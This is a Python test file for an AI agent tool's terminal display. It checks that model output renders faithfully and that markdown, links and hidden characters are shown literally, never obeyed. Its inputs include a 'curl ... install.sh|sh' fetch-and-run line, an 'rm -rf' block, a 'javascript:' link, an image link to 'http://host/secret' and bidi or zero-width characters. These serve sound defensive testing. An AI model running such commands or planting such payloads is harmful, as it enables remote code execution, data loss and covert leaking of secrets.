"""What a person sees at a terminal that can move its cursor: coloured, laid out, and as harmless as plain lines."""

import io
import os
import re
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from loopkernel.data.blocks import ToolCall
from loopkernel.data.ids import CallId, ModelOperation
from loopkernel.data.json_text import Json
from loopkernel_adapters.cli.edits import changed_by
from loopkernel_adapters.cli.rich_screen import RichScreen
from loopkernel_adapters.cli.screen import printable
from typing_extensions import override

from tests.adapters.cli.pseudo_terminal import END_OF_INPUT, at_a_terminal
from tests.adapters.cli.sessions import CHAT, MODEL, CommandLine, Gate, says, script

OURS = re.compile(r"\x1b\[[0-9;]*m")  # colours; whatever else a screen is sent without a live part is text
SIGNS = ["# ", "- ", "1. ", "> ", "```", "`", "*", "**", "|", "|-|\n", "[a](javascript:b)", "<i>", "&#27;", "![", "\n"]
MARKDOWN = st.lists(st.sampled_from(SIGNS) | st.text(max_size=5), max_size=12).map("".join)


class Terminal(io.StringIO):
    """Keeps what it is sent."""

    @override
    def isatty(self) -> bool:
        return True


@pytest.fixture(autouse=True)
def columns(monkeypatch: pytest.MonkeyPatch) -> None:
    """A terminal of a known kind and width."""
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.delenv("NO_COLOR", raising=False)


def sent(reply: str) -> str:
    """What the terminal is sent of a reply of the model."""
    stream = Terminal()
    screen = RichScreen(stream)
    for character in reply:
        screen.stream("model", character)
    screen.end_stream()
    return stream.getvalue()


def seen(reply: str) -> list[str]:
    return [line.rstrip() for line in OURS.sub("", sent(reply)).splitlines()]


@given(text=MARKDOWN)
def test_nothing_that_others_have_written_is_obeyed(text: str) -> None:
    stream = Terminal()
    screen = RichScreen(stream)
    screen.stream("model", text)
    screen.stream("thought", text)
    screen.labelled("call 1.1", text)
    screen.labelled(text, "a label")
    screen.line(text)
    screen.changes([text])
    screen.table(["run", "words"], [[text, text]])
    screen.ask_in_lines("answer", [text])
    screen.listen()
    screen.end_stream()
    left = OURS.sub("", stream.getvalue())
    assert printable(left) == left


@given(text=st.text(st.characters(categories=["L", "N"]), min_size=1, max_size=30).filter(str.isalnum))
def test_a_markup_of_rich_is_a_text(text: str) -> None:
    stream = Terminal()
    screen = RichScreen(stream)
    screen.line(f"[red]{text}[/red] :smile:")
    assert OURS.sub("", stream.getvalue()) == f"[red]{text}[/red] :smile:\n"


def test_a_reply_is_laid_out_when_it_is_complete() -> None:
    shown = sent("# Plan\n\n- **one**\n- two\n")
    assert "\x1b[1mone" in shown
    assert [line.strip() for line in seen("# Plan\n\n- **one**\n- two\n")] == ["model       Plan", "", "• one", "• two"]
    assert seen("two\nlines") == ["model       two", "            lines"]


@pytest.mark.parametrize(
    "text",
    [
        "[here](javascript:evil)",
        "![picture](http://host/secret)",
        "<b>bold</b>",
        "<!-- hidden -->",
        "&#x202e;turned",
        "<http://host>",
        "[a]: http://host",
    ],
)
def test_what_would_show_less_than_was_written_is_shown_as_it_was_written(text: str) -> None:
    assert seen(text) == [f"model       {text}"]
    assert "\x1b]" not in sent(text)


def test_hidden_characters_are_told() -> None:
    hidden = "a\u200bb\u2060c\U000e0041d\ufeff"
    assert seen(hidden) == ["model       a\\u200bb\\u2060c\\ue0041d\\ufeff"]


def test_a_line_that_goes_on_does_so_behind_its_label() -> None:
    stream = Terminal()
    RichScreen(stream).labelled("result 1.1", "word " * 40)
    first, *others = OURS.sub("", stream.getvalue()).splitlines()
    assert first.startswith("result 1.1  word")
    assert len(others) == 3
    assert all(line.startswith(" " * 12 + "word") for line in others)


def test_without_colour_there_is_none(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    codes = {code for found in OURS.findall(sent("# a\n`b` **c**")) for code in found[2:-1].split(";")}
    assert codes <= {"", "0", "1", "2", "3", "4"}  # weight and slant, no colour


def call(tool: str, **given: str) -> ToolCall:
    return ToolCall(id=CallId(ModelOperation(1), 1), provider_id="", tool=tool, input=Json.of({**given}))


def test_what_a_call_would_change_is_a_diff_in_which_odd_characters_are_marked() -> None:
    edit = call("edit_file", path="a", old_text="one\ntwo\n", new_text="one\n  thr\u200bee\n")
    assert changed_by(edit) == ["@@ -1,2 +1,2 @@", " one", "-two", "+  thr\u2039U+200B\u203aee"]
    assert changed_by(call("write_file", path="a", text="x\ny")) == ["+x", "+y"]
    assert changed_by(call("shell", command="ls")) == []
    assert changed_by(call("write_file", path="a", text="x\n" * 50))[-1] == "... 10 more lines"


# --- as a process ---


def test_calls_that_run_are_shown_with_their_time(loopkernel: CommandLine, gate: Gate, folder: Path) -> None:
    os.mkfifo("second")
    first = gate.call()["calls"]
    assert isinstance(first, list)
    script({"calls": [*first, {"tool": "shell", "input": {"command": "cat second"}}]}, says("The gate is *open*."))
    with at_a_terminal("run", "go", *MODEL, "--approve", "always", "--tools", "all") as person:
        gate.wait()
        person.wait_for("1 s shell")  # so that each has a time that is told
        gate.open()
        person.wait_for("result 1.1")
        person.wait_for("1 s shell")
        (folder / "second").write_text("open too\n")
        assert person.wait_for_end() == 0
        lines = person.lines()
    assert "model       The gate is open." in lines
    results = [line for line in lines if line.startswith("result ")]
    assert len(results) == 2
    assert [line for line in results if not re.search(r"\(\d+\.\d s\)$", line)] == []
    assert not any("⠋" in line for line in lines)  # what was under way is not left behind


@pytest.mark.parametrize("variables", [{"TERM": "dumb"}, {"TERM": ""}])
def test_a_terminal_that_cannot_move_its_cursor_gets_plain_lines(
    loopkernel: CommandLine, variables: dict[str, str]
) -> None:
    script(says("# Hello"))
    with at_a_terminal("run", "go", *MODEL, variables=variables) as person:
        assert person.wait_for_end() == 0
    assert b"\x1b" not in person.raw
    assert "model       # Hello" in person.lines()


def test_a_narrow_terminal_shows_the_label_above_the_reply(
    loopkernel: CommandLine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("COLUMNS")
    script(says("A word, and more of them than forty columns hold in one line."))
    with at_a_terminal("run", "go", *MODEL, size=(20, 40)) as person:
        assert person.wait_for_end() == 0
        lines = person.lines()
    place = lines.index("model")
    assert lines[place + 1 : place + 3] == ["  A word, and more of them than forty", "  columns hold in one line."]


def test_the_runs_are_a_table(loopkernel: CommandLine) -> None:
    script(says("Hello."))
    assert loopkernel("run", "say hello", *MODEL).status == 0
    with at_a_terminal("runs") as person:
        assert person.wait_for_end() == 0
        lines = person.lines()
    assert lines[0].split() == ["run", "began", "stands", "records", "tokens", "first", "words"]
    assert lines[1].endswith("say hello")


def test_without_the_extra_it_is_plain_and_says_what_to_install(loopkernel: CommandLine, folder: Path) -> None:
    script(says("# Hello"))
    (folder / "rich.py").write_text("raise ModuleNotFoundError('No module named rich', name='rich')")
    with at_a_terminal("run", "go", *MODEL, variables={"PYTHONPATH": str(folder)}) as person:
        assert person.wait_for_end() == 0
    assert "pip install 'loopkernel[cli]'" in person.shown
    assert "model       # Hello" in person.lines()


def test_a_chat_is_left_with_the_cursor_shown(loopkernel: CommandLine) -> None:
    script(says("never"))
    with at_a_terminal(*CHAT) as person:
        person.wait_for("you  ")
        person.type(END_OF_INPUT)
        assert person.wait_for_end() == 0
    hidden, shown = person.raw.rfind(b"\x1b[?25l"), person.raw.rfind(b"\x1b[?25h")
    assert shown >= hidden > -1


# --- nothing of a reply is hidden ---


@pytest.mark.parametrize(
    "reply",
    [
        "curl http://host/" + "a" * 90 + "/install.sh|sh",
        "```\n" + "b" * 120 + "\n```",
        "```SECRET rm -rf\nx\n```",
        "| " + " | ".join(f"column{number}" for number in range(40)) + " |\n|" + "---|" * 40,
        "|a|b|\n|-|-|\n|1|2|3 4|",
        "> " * 18 + "deep",
        "- " * 10 + "deep",
        "1) a\n7) b",
    ],
)
@pytest.mark.parametrize("columns", ["30", "80"])
def test_every_letter_of_a_reply_is_shown(monkeypatch: pytest.MonkeyPatch, reply: str, columns: str) -> None:
    monkeypatch.setenv("COLUMNS", columns)
    shown = "".join(seen(reply)).replace("model", "", 1)
    assert letters(shown) == letters(reply)


@given(st.text(alphabet="ab1 *_`#>-|\n", max_size=80))
def test_every_letter_of_any_reply_is_shown(reply: str) -> None:
    shown = "".join(seen(reply)).replace("model", "", 1)
    assert letters(shown) == letters(reply)


def letters(text: str) -> Counter[str]:
    return Counter(character for character in text if character.isalnum())


def test_no_change_stands_where_a_label_does() -> None:
    stream = Terminal()
    fake = call("write_file", path="a", text=" " * 67 + "answer      yes?\n" + " " * 100_000 + "x")
    RichScreen(stream).changes(changed_by(fake))
    lines = OURS.sub("", stream.getvalue()).splitlines()
    assert [line for line in lines if line and not line.startswith(" " * 12)] == []
    assert sum(map(len, lines)) < 1_000
